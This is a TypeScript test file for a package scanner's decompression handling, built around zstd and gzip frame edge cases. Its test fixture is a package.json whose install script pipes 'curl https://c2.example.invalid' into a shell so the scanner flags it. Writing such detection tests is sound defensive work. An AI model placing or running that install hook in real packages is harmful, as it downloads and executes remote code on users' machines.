import { randomBytes } from 'node:crypto'
import { gzipSync, zstdCompressSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { decompressed } from '../../../../src/modules/scanning/analysis/walk/decompression.ts'
import { Budget, defaultLimits } from '../../../../src/modules/scanning/analysis/walk/limits.ts'
import { analyseHere, rulesOf } from './analyse-here.ts'
import { tarOf } from './pack-archive.ts'

const evil = { name: 'package/package.json', content: '{"scripts":{"install":"curl https://c2.example.invalid | sh"}}' }
const npm = (bytes: Buffer) => analyseHere({ kind: 'npm', blobs: [{ bytes }] })
const skippable = (length: number) => {
  const head = Buffer.alloc(8)
  head.writeUInt32LE(0x184d2a5e)
  head.writeUInt32LE(length, 4)
  return Buffer.concat([head, Buffer.alloc(length, 7)])
}

test('a file behind the first frame of a zstd layer was not seen, and the verdict was clean', async () => {
  const tar = await tarOf([{ name: 'package/a.bin', content: randomBytes(200_000) }, evil])
  for (const at of [100, 200_000]) {
    const frames = [zstdCompressSync(tar.subarray(0, at)), skippable(300), zstdCompressSync(tar.subarray(at)), skippable(0)]
    const report = await npm(Buffer.concat(frames))
    expect([rulesOf(report), report.gaps]).toEqual([['npm/install-script-downloads'], []])
  }
})

test('of a zstd layer that begins with a frame to skip nothing was read', async () => {
  const bytes = Buffer.concat([skippable(5), skippable(70_000), zstdCompressSync(await tarOf([evil]))])
  expect(rulesOf(await npm(bytes))).toEqual(['npm/install-script-downloads'])
})

test('zstd of very many empty blocks and frames takes no longer than its bytes', async () => {
  const empty = Buffer.from('28b52ffd2000010000', 'hex')
  const blocks = Buffer.concat([Buffer.from('28b52ffd2000', 'hex'), Buffer.alloc(900_000), Buffer.from('010000', 'hex')])
  const before = process.cpuUsage()
  const bytes = Buffer.concat([...Array.from({ length: 5_000 }, () => empty), blocks, zstdCompressSync(await tarOf([evil]))])
  expect(rulesOf(await npm(bytes))).toEqual(['npm/install-script-downloads'])
  expect(process.cpuUsage(before).user / 1e6).toBeLessThan(5)
})

test.each([
  ['zstd with more behind it', async () => Buffer.concat([zstdCompressSync(await tarOf([evil])), Buffer.from('more bytes')])],
  [
    'zstd cut in a later frame',
    async () => Buffer.concat([zstdCompressSync(await tarOf([evil])), zstdCompressSync('more').subarray(0, -1)]),
  ],
  ['gzip with another one behind zeros', async () => Buffer.concat([gzipSync('x'), Buffer.alloc(9_000), gzipSync(await tarOf([evil]))])],
])('input that no decompressor took is a gap: %s', async (_what, make) => {
  const report = await npm(await make())
  expect(rulesOf(report)).toContain('archive/damaged')
  expect(report.gaps).toHaveLength(1)
})

test('gzip of several members, and zeros behind it, are ordinary', async () => {
  const tar = await tarOf([evil])
  const report = await npm(Buffer.concat([gzipSync(tar.subarray(0, 500)), gzipSync(tar.subarray(500)), Buffer.alloc(4_096)]))
  expect([rulesOf(report), report.gaps]).toEqual([['npm/install-script-downloads'], []])
})

test('every chunk of a stream left listeners behind, until it ended', async () => {
  const warnings: Error[] = []
  const hear = (warning: Error) => warnings.push(warning)
  process.on('warning', hear)
  const bytes = gzipSync(randomBytes(4_194_304), { level: 1 })
  let length = 0
  for await (const chunk of decompressed(inChunks(bytes), 'gzip', new Budget(defaultLimits))) length += chunk.length
  await new Promise(setImmediate)
  process.off('warning', hear)
  expect([length, warnings]).toEqual([4_194_304, []])
})

async function* inChunks(bytes: Buffer): AsyncGenerator<Buffer, void, undefined> {
  for (let at = 0; at < bytes.length; at += 65_536) yield bytes.subarray(at, at + 65_536)
}
